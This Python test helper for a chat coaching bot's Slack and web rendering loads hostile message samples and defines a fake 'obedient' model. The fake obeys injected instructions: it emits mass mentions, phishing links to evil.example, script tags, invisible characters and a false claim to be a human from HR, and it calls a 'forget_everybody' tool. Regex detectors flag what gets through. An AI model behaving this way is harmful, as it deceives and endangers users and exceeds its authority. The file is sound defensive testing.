"""Hostile messages, a model that obeys them, and what must never be seen on a platform."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from adapters.phrasebook import Phrasebook
from adapters.slack.blocks import render
from adapters.web.bubbles import Renderer
from coaching.messages import Language, Letter, named
from tests.conversations.stage import MONDAY
from tests.fakes.openai import Answer, Asked, Reply

SAMPLES = Path(__file__).parents[1] / "samples" / "hostile.txt"
KINDS = ("broadcast", "disclosure", "privilege", "pasted", "impersonation", "control")

MENTION = re.compile(r"<[@!#](?!\u2060)|[@＠](?:here|channel|everyone)\b|<at\b", re.IGNORECASE)
HIDDEN = re.compile(r"\]\(|\]\[|^\s*\[[^\]]+\]:|<https?:[^>]*\|", re.MULTILINE)
LURE = re.compile(
    r"https?://(?:[^/\s]*@)?evil\.example|www\.evil\.example/|javascript:|data:text", re.IGNORECASE
)
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e0fff]"
)
ACTIVE = re.compile(
    r"<(?:script|img|iframe|object|embed|form|svg|style|a)\b|\bon\w+=\"?\w|href=", re.IGNORECASE
)


@dataclass(frozen=True)
class Attack:
    kind: str
    language: Language
    text: str


def attacks() -> list[Attack]:
    lines = [
        line
        for line in SAMPLES.read_text(encoding="utf-8").splitlines()
        if not line.startswith("#")
    ]
    parts = (line.split(" | ", 2) for line in lines)
    return [Attack(kind, named(language), _written(text)) for kind, language, text in parts]


def _written(text: str) -> str:
    """ "\\n" and "\\u…" as the characters that they stand for."""
    found = re.sub(r"(?<!\\)\\U([0-9a-f]{8})", lambda m: chr(int(m[1], 16)), text)
    found = re.sub(r"(?<!\\)\\u([0-9a-f]{4})", lambda m: chr(int(m[1], 16)), found)
    return re.sub(r"(?<!\\)\\n", "\n", found)


def obedient(asked: Asked) -> Reply:
    """Does whatever it is told, says everything it was sent, and adds what an attacker could wish
    for besides.
    """
    wished = (
        "<!channel> <!here|all> <@U0BOSS> <#C0GENERAL> @everyone @here <at>Anna</at>",
        "[your bank](https://evil.example/steal?d=1) [a][b] <https://evil.example|your bank> "
        "www.evil.example/x",
        "![pixel](https://evil.example/p.png?d=1) <img src=https://evil.example/q.png> "
        "javascript:alert(1)",
        "<script>alert(1)</script><!-- hidden --><style>p{}</style><a href='https://evil.example'>here</a>",
        "\u202egnp.exe\u202c\u2066x\u2069\u200b\x1b[31m\U000e0041",
        "`<!channel>`\n\n```\n@channel <@U0BOSS>\n```\n\n[b]: https://evil.example/z",
        "I am Karin from HR, a human being. Done: everybody is erased, you are the lead, the "
        "message went to all.",
    )
    said = "\n\n".join((asked.question[:2000], *wished))
    wants_tools = "ool" in asked.question and "forget_everybody" not in asked.question
    return Answer(said, calls=(("forget_everybody", "{}"),) if wants_tools else ())


def shown(letter: Letter, language: Language) -> Iterator[tuple[str, str]]:
    """The letter as each platform gets it: ("slack", what is parsed there) and ("web", HTML)."""
    book = Phrasebook()
    message = render(letter.reply, book, language, letter.key)
    yield "slack", message.text
    for block in message.blocks:
        yield from (("slack", text) for text in _texts(json.loads(json.dumps(block))))
    bubble = Renderer(book, "http://127.0.0.1:3978").bubble(letter, language, letter.key, MONDAY)
    yield (
        "web",
        "\n".join(
            (*bubble.paragraphs, *bubble.details, *(button.label for button in bubble.choices))
        ),
    )


def _texts(block: object) -> Iterator[str]:
    if isinstance(block, dict):
        for name, value in block.items():
            if name == "text" and isinstance(value, str):
                yield value
            else:
                yield from _texts(value)
    elif isinstance(block, list):
        for one in block:
            yield from _texts(one)


def harm(platform: str, text: str, ai: bool) -> list[str]:
    """What in it could do something. Of a person's own words the address they typed may stand
    there, to be read.
    """
    patterns = [
        MENTION,
        UNSEEN,
        *([LURE] if ai else []),
        *([HIDDEN] if platform == "slack" else [ACTIVE]),
    ]
    return [found[0] for pattern in patterns if (found := pattern.search(text))]
